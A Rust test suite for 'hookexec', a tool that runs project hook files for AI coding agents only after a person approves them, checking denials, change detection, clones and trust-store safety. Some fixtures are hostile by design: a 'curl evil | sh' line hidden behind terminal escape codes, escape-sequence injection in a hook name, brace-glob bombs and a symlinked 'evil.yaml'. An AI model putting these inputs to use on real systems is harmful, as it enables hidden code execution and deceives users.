//! A hooks file that a project brings along runs only after its owner approved it.

use super::support::Sandbox;

const HOOKS: &str = "
pre_tool_use:
  - matcher: shell
    hooks: [{ type: command, command: sh ./guard.sh, on_error: ignore }]
stop: [{ type: command, command: 'touch ran' }]
";
const CALL: &str = r#"{"tool_name":"shell","tool_input":{"cmd":"ls"}}"#;

/// Returns how many approvals the user's store has.
fn approvals(sandbox: &Sandbox) -> usize {
    let store = sandbox.home().join(".local/state/hookexec/trust");
    let kept = std::fs::read_dir(store).unwrap().map(|entry| entry.unwrap().path());
    kept.filter(|path| path.is_file()).count()
}

fn project() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.write("hooks.yaml", HOOKS);
    sandbox.write("guard.sh", "echo '{\"decision\":\"allow\"}'\n");
    sandbox
}

#[test]
fn what_was_not_approved_does_not_run_and_its_absence_denies() {
    let sandbox = project();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
    let run = run.exits(2);
    assert!(
        run.stdout.contains("hooks.yaml is not approved. A person must approve it."),
        "{run:?}"
    );
    assert!(run.stderr.contains("hookexec trust add"), "{run:?}");
    // The model reads the message, and the user the rest.
    let verdict: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert!(!verdict["message"].as_str().unwrap().contains("trust add"), "{run:?}");
    assert!(verdict["system_message"].as_str().unwrap().contains("trust add"), "{run:?}");

    // Others are told by `check`, in its words; see below of people.
    let check = sandbox.hookexec(["check"]).run().exits(0);
    for said in [&run.stderr, &check.stderr] {
        assert!(said.contains(" is not approved"), "{said}");
    }
    let explained = sandbox.hookexec(["explain", "pre_tool_use"]).stdin(CALL).run().exits(0);
    assert!(!explained.stdout.contains("exit code"), "{explained:?}");

    // An event that fails open goes on, and says so; nothing of the file ran.
    let run = sandbox.hookexec(["run", "stop"]).stdin("{}").run();
    let run = run.exits(0);
    assert!(run.stdout.contains("failed_open"), "{run:?}");
    assert!(!sandbox.project().join("ran").exists());

    // Nothing of it is read, so every tool is denied, also at events for which it has no hooks.
    let edit = r#"{"tool_name":"edit"}"#;
    let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(edit).run().exits(2);
    let _ = sandbox.hookexec(["run", "tool_guard"]).stdin(CALL).run().exits(2);
}

#[test]
fn an_approval_without_a_script_that_is_gone_is_said() {
    let sandbox = project();
    sandbox.trust();
    std::fs::remove_file(sandbox.project().join("guard.sh")).unwrap();
    let listed = sandbox.hookexec(["trust"]).run();
    assert!(listed.stderr.contains("restore what is gone"), "{listed:?}");
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    assert!(added.stderr.contains("approved without the files that are gone"), "{added:?}");
}

#[test]
fn people_are_told_once_that_a_file_was_not_approved() {
    let sandbox = Sandbox::new();
    let hooks = "pre_tool_use: { matcher: shell, hooks: [ { type: command, command: a }, { type: command, command: b } ] }
stop: [ { type: command, command: a }, { type: command, command: b } ]
";
    sandbox.write("hooks.yaml", hooks);
    for (event, code) in [
        ("pre_tool_use", 2),
        ("stop", 0),
        // Also where it has no hooks.
        ("session_end", 0),
    ] {
        let text = sandbox.hookexec(["run", event, "--format", "text"]).stdin(CALL).run();
        let text = text.exits(code);
        let said = [text.stderr.as_str(), &text.stdout].concat();
        assert_eq!(said.matches("is not approved").count(), 1, "{said}");
        assert_eq!(said.matches("hookexec trust add").count(), 1, "{said}");
    }
}

#[test]
fn an_agents_user_is_told_once_an_event_that_a_file_was_not_approved() {
    let sandbox = project();
    let told = |event: &str| {
        let payload = format!(r#"{{"session_id":"s","hook_event_name":"{event}","prompt":"hi"}}"#);
        let args = ["run", "--from", "claude-code"];
        sandbox.hookexec(args).stdin(payload).run().exits(0).stdout
    };
    for hooks in [HOOKS, "audit: { path: audit.jsonl }\n"] {
        sandbox.write("hooks.yaml", hooks);
        let start = told("SessionStart");
        assert_eq!(start.matches("hooks.yaml is not approved").count(), 1, "{start}");
        assert_eq!(start.matches("hookexec trust add").count(), 1, "{start}");
        let prompt = told("UserPromptSubmit");
        assert_eq!(prompt.matches("hooks.yaml is not approved").count(), 1, "{prompt}");
    }
}

#[test]
fn explain_says_the_failure_of_a_file_or_a_script_once() {
    let sandbox = project();
    let hooks = HOOKS.replace("ignore", "warn");
    sandbox.write("hooks.yaml", &hooks);
    let explained = || {
        let done = sandbox.hookexec(["explain", "pre_tool_use"]).stdin(CALL).run().exits(0);
        done.stderr + &done.stdout
    };
    let once = |said: &str, problem: &str, remedy: &str, times: usize| {
        assert_eq!(said.matches(problem).count(), times, "{said}");
        assert_eq!(said.matches(remedy).count(), 1, "{said}");
    };
    // As the hook's error, and in the reason of the denial.
    once(&explained(), "hooks.yaml is not approved", "hookexec trust add", 2);
    sandbox.trust();
    sandbox.write("guard.sh", "exit 0\n");
    once(&explained(), "`guard.sh` changed after its approval", "hookexec trust add", 2);
    std::fs::remove_file(sandbox.project().join("hooks.yaml")).unwrap();
    once(&explained(), "this approved file is gone", "hookexec trust remove", 1);
}

#[test]
fn a_new_script_is_not_called_a_changed_one() {
    let sandbox = project();
    std::fs::remove_file(sandbox.project().join("guard.sh")).unwrap();
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    let missing = "  missing (if one appears, the file waits): guard.sh\n";
    assert!(added.stdout.contains(missing), "{added:?}");
    assert!(added.stderr.contains("without the files that are gone or missing"), "{added:?}");
    assert!(!added.stdout.contains("not covered: sh"), "{added:?}");
    sandbox.write("guard.sh", "exit 0\n");
    let shown = sandbox.hookexec(["trust"]).run().exits(1);
    assert!(shown.stdout.contains("hooks.yaml: `guard.sh` is not approved\n"), "{shown:?}");
    assert!(shown.stdout.contains("  not approved: guard.sh\n"), "{shown:?}");
}

#[test]
fn log_without_a_log_says_why_there_is_none() {
    let sandbox = project();
    let audit = format!("audit: {{ path: audit.jsonl }}\n{HOOKS}");
    sandbox.write("hooks.yaml", &audit);
    let says = |parts: &[&str]| {
        let log = sandbox.hookexec(["log"]).run().exits(64);
        let unknown = "which log? No hooks file that is in use says `audit:`";
        for part in parts.iter().chain(&[unknown]) {
            assert!(log.stderr.contains(part), "{part}: {log:?}");
        }
    };
    says(&["hooks.yaml is not approved", "hookexec trust add"]);
    sandbox.trust();
    sandbox.write("hooks.yaml", &format!("{audit}x: [\n"));
    says(&["hooks.yaml"]);
    sandbox.write("hooks.yaml", HOOKS);
    says(&["add `audit: { path: audit.jsonl }` to the hooks file"]);
}

#[test]
fn a_changed_file_with_a_mistake_is_said_to_be_both() {
    let sandbox = project();
    sandbox.trust();
    for (mistake, error) in [
        ("pre_tool_usee: []\n", "unknown key `pre_tool_usee`"),
        ("x: [\n", "this `[` is never closed"),
    ] {
        sandbox.write("hooks.yaml", &format!("{HOOKS}{mistake}"));
        let check = sandbox.hookexec(["check"]).run().exits(78).stderr;
        assert!(check.contains(error), "{check}");
        assert!(check.contains("warning: this file changed after its approval"), "{check}");
        let listed = sandbox.hookexec(["explain"]).run().stderr;
        assert!(listed.contains(error), "{listed}");
        let doctor = sandbox.hookexec(["doctor"]).run().exits(1).stdout;
        assert!(doctor.contains("1 error in the hooks files"), "{doctor}");
        assert_eq!(doctor.matches("this file changed after its approval").count(), 1, "{doctor}");
        let shown = sandbox.hookexec(["trust", "show"]).run().exits(1);
        assert!(shown.stdout.contains("hooks.yaml: this file changed after its approval\n"));
        let whether = "`hookexec check` shows whether it can be loaded";
        assert!(shown.stderr.contains(whether), "{shown:?}");
        // At an event nothing of the file is read.
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
        assert!(!run.stdout.contains(error), "{run:?}");
    }
}

#[test]
fn a_file_that_was_never_approved_and_is_broken_is_said_to_be_both() {
    let sandbox = project();
    let audit = format!("audit: {{ path: ~/audit.jsonl }}\n{HOOKS}");
    sandbox.write("hooks.yaml", &audit);
    let broken = format!("{HOOKS}x: [\n");
    for (hooks, error) in
        [(audit, "`~/audit.jsonl` is not in the project"), (broken, "this `[` is never closed")]
    {
        sandbox.write("hooks.yaml", &hooks);
        let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(78);
        assert!(added.stderr.contains(error), "{added:?}");
    }
}

#[test]
fn doctor_says_that_a_file_is_gone_before_what_comes_of_it() {
    let sandbox = project();
    sandbox.trust();
    std::fs::remove_file(sandbox.project().join("hooks.yaml")).unwrap();
    let doctor = sandbox.hookexec(["doctor"]).run().exits(1).stdout;
    let cause = doctor.find("this approved file is gone").unwrap();
    assert!(cause < doctor.find("no hooks file was found").unwrap(), "{doctor}");
}

#[test]
fn a_file_that_is_named_needs_no_approval() {
    let sandbox = project();
    let run = sandbox.hookexec(["run", "pre_tool_use", "--config", "hooks.yaml"]).stdin(CALL).run();
    let run = run.exits(0);
    assert!(run.stdout.contains(r#""decision":"allow""#), "{run:?}");
}

#[test]
fn a_hooks_file_below_cannot_hide_the_one_above() {
    let sandbox = project();
    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    sandbox.write("hooks.yaml", &HOOKS.replace("sh ./guard.sh", "exit 2"));
    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    sandbox.write("below/hooks.yaml", "stop: [{ type: command, command: 'true' }]\n");
    let run = sandbox.hookexec(["run", "pre_tool_use", "--cwd", "below"]).stdin(CALL).run();
    let run = run.exits(2);
    assert!(run.stdout.contains("gave no reason"), "{run:?}");
}

#[test]
fn files_that_others_can_write_are_refused() {
    use std::os::unix::fs::PermissionsExt as _;
    let sandbox = project();
    let path = sandbox.project().join("hooks.yaml");
    let refused = |why: &str| {
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
        assert!(run.stdout.contains(why), "{run:?}");
        let check = sandbox.hookexec(["check"]).run();
        assert!(check.code() != Some(0) && check.stderr.contains(why), "{check:?}");
    };
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).unwrap();
    refused("chmod o-w");

    let outside = sandbox.home().join("evil.yaml");
    std::fs::write(&outside, HOOKS).unwrap();
    std::fs::remove_file(&path).unwrap();
    std::os::unix::fs::symlink(&outside, &path).unwrap();
    refused("is a symbolic link");
}

#[test]
fn a_pipe_in_the_place_of_a_hooks_file_keeps_nobody_waiting() {
    let sandbox = Sandbox::new();
    let path = sandbox.project().join("hooks.yaml");
    let made = std::process::Command::new("mkfifo").arg(&path).status().unwrap();
    assert!(made.success());
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("not a regular file"), "{run:?}");
}

/// A project whose guard is found through `tools/guard.sh`, by a hook with these keys.
fn project_with(keys: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    let hooks = format!(
        "pre_tool_use:\n  - matcher: shell\n    hooks: [{{ type: command, {keys}, timeout: 60 }}]\n"
    );
    sandbox.write("hooks.yaml", &hooks);
    for directory in ["tools", "others"] {
        sandbox.script(
            format!("{directory}/guard.sh"),
            "#!/bin/sh\necho '{\"decision\":\"allow\"}'\n",
        );
    }
    sandbox
}

#[test]
fn a_script_is_found_through_the_variables_of_its_working_directory() {
    for place in ["$TOOLS", "${TOOLS}", "${env.TOOLS}", "./$TOOLS/../tools"] {
        let sandbox = project_with(&format!("command: sh ./guard.sh, working_dir: \"{place}\""));
        let hookexec = |arguments: &[&str], tools: &str| {
            sandbox.hookexec(arguments).env("TOOLS", tools).stdin(CALL).run()
        };
        let added = hookexec(&["trust", "add", "--yes"], "tools").exits(0);
        assert!(added.stdout.contains("covered: tools/guard.sh"), "{place}: {added:?}");
        let _ = hookexec(&["run", "pre_tool_use"], "tools").exits(0);

        // Another script is not approved, although it says the same.
        if !place.contains("../tools") {
            let run = hookexec(&["run", "pre_tool_use"], "others").exits(2);
            assert!(run.stdout.contains("`others/guard.sh`"), "{place}: {run:?}");
        }
        sandbox.script("tools/guard.sh", "#!/bin/sh\nexit 0\n");
        let run = hookexec(&["run", "pre_tool_use"], "tools").exits(2);
        assert!(
            run.stdout.contains("`tools/guard.sh` changed after its approval"),
            "{place}: {run:?}"
        );
    }
}

#[test]
fn a_shell_of_the_project_is_part_of_the_approval() {
    let sandbox = project_with("command: exit 0, shell: ./tools/guard.sh");
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    assert!(added.stdout.contains("tools/guard.sh"), "{added:?}");
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
    assert!(run.stdout.contains(r#""decision":"allow""#), "{run:?}");

    sandbox.script("tools/guard.sh", "#!/bin/sh\ntouch ran\n");
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("`tools/guard.sh` changed after its approval"), "{run:?}");
    assert!(!sandbox.project().join("ran").exists());
}

#[test]
fn a_script_that_is_too_large_to_be_looked_at_is_refused_and_said() {
    let sandbox = project_with("command: sh ./tools/guard.sh");
    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    let script =
        std::fs::OpenOptions::new().write(true).open(sandbox.project().join("tools/guard.sh"));
    // A file of holes: it takes no room.
    script.unwrap().set_len((64 << 20) + 1).unwrap();
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run();
    assert!(added.code() != Some(0), "{added:?}");
    let said = "can't approve `tools/guard.sh`: it is larger than 64 MiB";
    assert!(added.stderr.contains(said), "{added:?}");
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("`tools/guard.sh` changed after its approval"), "{run:?}");
}

#[test]
fn an_unapproved_file_cannot_take_the_guards_of_the_user_with_it() {
    let sandbox = Sandbox::new();
    let hooks = "pre_tool_use: [{ hooks: [{ type: command, command: 'echo USER >&2; exit 2' }] }]";
    sandbox.write_users_hooks(hooks);
    let (open, close) = ("{a,".repeat(20_000), "}".repeat(20_000));
    let glob = format!(
        "session_end: [{{ type: command, command: x, when: {{ field: a, glob: '{open}{close}' }} }}]"
    );
    let protected = format!(
        "pre_tool_use: [{{ hooks: [{{ type: rule, deny: no, files: ['{open}{close}'] }}] }}]"
    );
    for hostile in [glob, protected] {
        sandbox.write("hooks.yaml", &hostile);
        let from = ["run", "--from", "claude-code", "--event", "PreToolUse"];
        let call = format!(
            r#"{{"hook_event_name":"PreToolUse","cwd":{:?},"tool_name":"Bash","tool_input":{{"command":"ls"}}}}"#,
            sandbox.project()
        );
        let run = sandbox.hookexec(from).stdin(call).run().exits(0);
        assert!(run.stdout.contains(r#""permissionDecision":"deny""#), "{run:?}");
        for command in ["check", "explain", "doctor", "trust"] {
            let run = sandbox.hookexec([command]).run();
            assert!(run.code().is_some(), "{command}: {run:?}");
        }
    }
}

#[test]
fn a_script_is_the_one_where_the_hook_runs() {
    let sandbox = project();
    sandbox.write("hooks.yaml", &HOOKS.replace("on_error: ignore", "on_error: block"));
    let _ = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(0);
    let below = |run: &[&str]| {
        sandbox.hookexec(run).current_dir(sandbox.project().join("below")).stdin(CALL).run()
    };
    sandbox.write("below/guard.sh", "echo '{\"decision\":\"allow\"}'; touch ran\n");
    let _ = below(&["trust"]).exits(1);
    let run = below(&["run", "pre_tool_use"]).exits(2);
    assert!(run.stdout.contains("trust add --cwd [SANDBOX]/project/below "), "{run:?}");
    assert!(!sandbox.project().join("below/ran").exists());
    // There as here after an approval each.
    let _ = below(&["trust", "add", "--yes"]).exits(0);
    let _ = below(&["run", "pre_tool_use"]).exits(0);
    let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
}

#[test]
fn an_approval_of_another_clone_is_taken_back_too() {
    let sandbox = Sandbox::new();
    for clone in ["one", "two"] {
        std::fs::create_dir_all(sandbox.project().join(clone).join(".git")).unwrap();
        sandbox.write(format!("{clone}/hooks.yaml"), "stop: [{ type: command, command: make }]\n");
    }
    let trust = |action: &str, clone: &str| {
        let yes = (action != "show").then_some("--yes");
        sandbox.hookexec(["trust", action, "--cwd", clone].into_iter().chain(yes)).run()
    };
    let added = trust("add", "one").exits(0);
    assert!(added.stdout.contains("not covered: make"), "{added:?}");
    let _ = trust("add", "two").exits(0);
    let removed = trust("remove", "one").exits(0);
    assert!(removed.stdout.contains("not approved any longer"), "{removed:?}");
    let _ = trust("show", "one").exits(1);
    let _ = trust("add", "one").exits(0);
    let _ = trust("remove", "two").exits(0);
    let _ = trust("show", "one").exits(1);
}

#[test]
fn a_store_that_is_not_the_users_own_is_refused_and_said() {
    use std::os::unix::fs::PermissionsExt as _;
    let sandbox = project();
    let shared = sandbox.home().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
    for (state, problem) in [
        (sandbox.project().join(".state"), "lies inside the project"),
        (shared, "can be written by others"),
    ] {
        let hookexec = |arguments: &[&str]| {
            sandbox.hookexec(arguments).env("XDG_STATE_HOME", &state).stdin(CALL).run()
        };
        let added = hookexec(&["trust", "add", "--yes"]);
        assert!(added.code() != Some(0) && added.stderr.contains(problem), "{added:?}");
        let run = hookexec(&["run", "pre_tool_use"]).exits(2);
        assert!(run.stderr.contains(problem), "{run:?}");
    }
}

#[test]
fn the_way_out_of_a_directory_of_hooks_leads_out() {
    let sandbox = Sandbox::new();
    sandbox.write(".hookexec/hooks.yaml", HOOKS);
    sandbox.write("guard.sh", "exit 0\n");
    // As it is without a repository.
    std::fs::remove_dir(sandbox.project().join(".git")).unwrap();
    let path = sandbox.project().join(".hookexec/hooks.yaml");
    let added =
        sandbox.hookexec(["trust".as_ref(), "add".as_ref(), "--yes".as_ref(), path.as_os_str()]);
    let added = added.current_dir(sandbox.home()).run().exits(0);
    assert!(added.stdout.contains("covered: guard.sh"), "{added:?}");
    let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
}

#[test]
fn nothing_of_a_strange_project_moves_the_cursor() {
    let sandbox = Sandbox::new();
    let hooks = "pre_tool_use: [{ hooks: [{ type: command, name: \"n\\n\\e]0;owned\\a\\e[2J\\u202e\", command: sh ./guard.sh }] }]";
    sandbox.write("hooks.yaml", hooks);
    sandbox.write("guard.sh", "exit 0\n");
    sandbox.trust();
    sandbox.write("guard.sh", "curl evil | sh #\u{1b}[2K\u{1b}[1A\u{1b}[2K\rexit 0\n");
    for command in [
        vec!["trust", "show"],
        vec!["explain"],
        vec!["doctor"],
        vec!["explain", "pre_tool_use"],
        vec!["run", "pre_tool_use", "-v", "--format", "text"],
    ] {
        let rows = !command.contains(&"pre_tool_use");
        if !rows {
            // The hook itself is only named when its file runs.
            sandbox.write("guard.sh", "exit 0\n");
        }
        let done = sandbox.hookexec(&command).env("CLICOLOR_FORCE", "1").stdin(CALL).run();
        let said = done.stdout + &done.stderr;
        for bad in ["\u{1b}]", "\u{7}", "\u{1b}[2J", "\u{1b}[2K", "\r", "\u{9b}", "\u{202e}"] {
            assert!(!said.contains(bad), "{command:?} {bad:?}: {said:?}");
        }
        // A message may have several lines; a row has one.
        assert!(!rows || !said.contains("n\n\u{fffd}]0"), "{command:?}: {said:?}");
        // These two quote the file or name it alone.
        let quoted = command[0] == "trust" || command[0] == "doctor";
        assert!(quoted || said.contains('\u{fffd}'), "{command:?}: {said:?}");
    }
}

#[test]
fn adding_a_file_that_is_gone_says_so() {
    let sandbox = project();
    sandbox.trust();
    std::fs::remove_file(sandbox.project().join("hooks.yaml")).unwrap();
    let added = sandbox.hookexec(["trust", "add", "--yes"]).run().exits(1);
    assert!(added.stderr.contains("hooks.yaml: this approved file is gone"), "{added:?}");
    assert!(added.stderr.contains("hookexec trust remove hooks.yaml"), "{added:?}");
}

#[test]
fn the_command_that_takes_back_an_approval_can_be_pasted() {
    let sandbox = Sandbox::new();
    let name = ".hookexec/hooks.d/a b.yaml";
    sandbox.write(name, HOOKS);
    sandbox.write("guard.sh", "exit 2\n");
    sandbox.trust();
    std::fs::remove_file(sandbox.project().join(name)).unwrap();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
    let command = format!("`hookexec trust remove '[SANDBOX]/project/{name}'`");
    assert!(run.stdout.contains(&command), "{run:?}");
    for action in ["show", "add"] {
        let yes = (action == "add").then_some("--yes");
        let shown = sandbox.hookexec(["trust", action].into_iter().chain(yes)).run().exits(1);
        let way_back = format!("restore {name}, or run `hookexec trust remove '{name}'`");
        assert!(shown.stderr.contains(&way_back), "{shown:?}");
    }
}

#[test]
fn a_change_can_be_undone_instead_of_approved() {
    let sandbox = project();
    sandbox.trust();
    let told = |what: &str| {
        let run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run();
        let verdict: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        let said = verdict["system_message"].as_str().unwrap().to_owned();
        assert!(said.contains(what), "{said}");
        assert!(said.contains("hookexec trust add"), "{said}");
        assert_eq!(said.matches(" changed after").count(), 0, "the message says it: {said}");
    };
    sandbox.write("hooks.yaml", &format!("{HOOKS}# changed\n"));
    told("review the change of `hooks.yaml` with `hookexec trust show ");
    sandbox.write("hooks.yaml", &HOOKS.replace("ignore", "block"));
    sandbox.trust();
    sandbox.write("guard.sh", "exit 0\n");
    told("review the change of `guard.sh` with `hookexec trust show ");
    std::fs::remove_file(sandbox.project().join("guard.sh")).unwrap();
    told("restore `guard.sh`, or take it out of `hooks.yaml` and run `hookexec trust add ");
    sandbox.trust();
    sandbox.write("guard.sh", "exit 2\n");
    told("review `guard.sh` with `hookexec trust show ");
}

#[test]
fn a_home_behind_a_link_ends_the_search_as_one_that_is_none() {
    let sandbox = Sandbox::new();
    std::fs::create_dir_all(sandbox.home().join("work/below")).unwrap();
    std::fs::write(sandbox.home().join("work/hooks.yaml"), HOOKS).unwrap();
    let link = sandbox.project().join("home");
    std::os::unix::fs::symlink(sandbox.home(), &link).unwrap();
    let run = sandbox.hookexec(["run", "pre_tool_use"]).env("HOME", &link);
    let run = run.current_dir(link.join("work/below")).stdin(CALL).run().exits(2);
    assert!(run.stdout.contains("is not approved"), "{run:?}");
}

#[test]
fn a_home_that_is_wherever_one_stands_is_none() {
    let sandbox = Sandbox::new();
    sandbox.write(".config/hookexec/hooks.yaml", "stop: [{ type: command, command: touch ran }]\n");
    let mut run = sandbox.hookexec(["run", "stop"]).env("HOME", ".").stdin("{}");
    for name in ["XDG_CONFIG_HOME", "XDG_STATE_HOME"] {
        run = run.env(name, "");
    }
    let run = run.run().exits(0);
    assert!(!sandbox.project().join("ran").exists(), "{run:?}");
    assert!(
        run.stdout.contains("no home directory is known, so the user's hooks can't be found"),
        "{run:?}"
    );
}

#[test]
fn without_a_variable_the_home_of_the_account_counts_if_it_has_hooks() {
    let sandbox = Sandbox::new();
    let mut run = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL);
    for name in ["HOME", "XDG_CONFIG_HOME"] {
        run = run.env(name, "");
    }
    let said = run.run().exits(2).stdout;
    assert!(said.contains("no variable names the home directory"), "{said}");
    let isolated = sandbox.hookexec(["run", "pre_tool_use", "--isolated"]).env("HOME", "");
    let _ = isolated.env("XDG_CONFIG_HOME", "").stdin(CALL).run().exits(0);
}

/// Two clones with the same bytes, of which the first is approved.
fn clones() -> Sandbox {
    let sandbox = Sandbox::new();
    for clone in ["one", "two"] {
        std::fs::create_dir_all(sandbox.project().join(clone).join(".git")).unwrap();
        sandbox.write(format!("{clone}/hooks.yaml"), HOOKS);
        sandbox.write(format!("{clone}/guard.sh"), "echo '{\"decision\":\"allow\"}'\n");
    }
    let _ = sandbox.hookexec(["trust", "add", "--yes", "--cwd", "one"]).run().exits(0);
    sandbox
}

#[test]
fn a_clone_that_was_used_notices_what_happens_to_its_hooks_file() {
    for (text, code, said) in [
        (None, 0, "this approved file is gone"),
        (Some("hooks: {}\n"), 2, "changed after its approval"),
        (
            Some("pre_tool_use: [{ hooks: [{ type: command, command: 'true' }] }]\n"),
            2,
            "changed after its approval",
        ),
    ] {
        let sandbox = clones();
        let run = |code| {
            let run = sandbox.hookexec(["run", "pre_tool_use", "--cwd", "two"]).stdin(CALL).run();
            run.exits(code)
        };
        // `trust` alone is not a use.
        let _ = sandbox.hookexec(["trust", "show", "--cwd", "two"]).run().exits(0);
        assert_eq!(approvals(&sandbox), 1);
        let allowed = run(0);
        assert!(allowed.stdout.contains(r#""decision":"allow""#), "{allowed:?}");
        assert_eq!(approvals(&sandbox), 2);
        let path = sandbox.project().join("two/hooks.yaml");
        match text {
            Some(text) => std::fs::write(&path, text).unwrap(),
            None => std::fs::remove_file(&path).unwrap(),
        }
        let noticed = run(code);
        assert!(noticed.stdout.contains(said), "{text:?}: {noticed:?}");
    }
}

#[test]
fn a_worktree_runs_what_was_approved_in_the_checkout_also_if_it_lies_inside() {
    let sandbox = project();
    sandbox.trust();
    for worktree in ["../beside", ".worktrees/inside"] {
        let at = |name: &str| format!("{worktree}/{name}");
        let run = |code| {
            let run =
                sandbox.hookexec(["run", "pre_tool_use", "--cwd", worktree]).stdin(CALL).run();
            run.exits(code).whole()
        };
        let allow = "echo '{\"decision\":\"allow\"}'\n";
        sandbox.write(at(".git"), "gitdir: elsewhere\n");
        sandbox.write(at("hooks.yaml"), HOOKS);
        sandbox.write(at("guard.sh"), allow);
        let said = run(0);
        assert!(said.contains(r#""decision":"allow""#) && !said.contains("warning"), "{said}");
        // A change of either file waits here, and not in the checkout.
        sandbox.write(at("guard.sh"), "exit 0\n");
        assert!(run(2).contains("`guard.sh` changed after its approval"), "{worktree}");
        let _ = sandbox.hookexec(["run", "pre_tool_use"]).stdin(CALL).run().exits(0);
        sandbox.write(at("guard.sh"), allow);
        // Without a hooks file of its own, the one around it is missed.
        std::fs::remove_file(sandbox.project().join(at("hooks.yaml"))).unwrap();
        let said = run(0);
        assert!(said.contains("this approved file is gone"), "{said}");
        let is_inside = !worktree.starts_with("..");
        assert_eq!(said.contains("above the root of the project"), is_inside, "{said}");
    }
}

#[test]
fn an_approval_elsewhere_does_not_approve_a_change_here() {
    let sandbox = clones();
    let run = || sandbox.hookexec(["run", "pre_tool_use", "--cwd", "two"]).stdin(CALL).run();
    let _ = run().exits(0);
    let later = format!("{HOOKS}# later\n");
    sandbox.write("one/hooks.yaml", &later);
    let _ = sandbox.hookexec(["trust", "add", "--yes", "--cwd", "one"]).run().exits(0);
    sandbox.write("two/hooks.yaml", &later);
    let denied = run().exits(2);
    assert!(denied.stdout.contains("changed after its approval"), "{denied:?}");
    let _ = sandbox.hookexec(["trust", "add", "--yes", "--cwd", "two"]).run().exits(0);
    let _ = run().exits(0);
    sandbox.write("two/hooks.yaml", HOOKS);
    let denied = run().exits(2);
    assert!(denied.stdout.contains("changed after its approval"), "{denied:?}");
}

#[test]
fn a_store_that_can_not_be_written_delays_no_event() {
    use std::os::unix::fs::PermissionsExt as _;
    let sandbox = clones();
    let store = sandbox.home().join(".local/state/hookexec/trust");
    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o500)).unwrap();
    let run = sandbox.hookexec(["run", "pre_tool_use", "--cwd", "two"]).stdin(CALL).run().exits(0);
    std::fs::set_permissions(&store, std::fs::Permissions::from_mode(0o700)).unwrap();
    assert!(run.stdout.contains(r#""decision":"allow""#) && run.stderr.is_empty(), "{run:?}");
}

#[test]
fn an_approval_that_is_taken_back_in_one_clone_is_not_kept_by_another() {
    let sandbox = clones();
    let run = || sandbox.hookexec(["run", "pre_tool_use", "--cwd", "two"]).stdin(CALL).run();
    let _ = run().exits(0);
    std::fs::remove_file(sandbox.project().join("one/hooks.yaml")).unwrap();
    let _ = sandbox.hookexec(["trust", "remove", "--yes", "--cwd", "one"]).run().exits(0);
    let _ = run().exits(2);
}
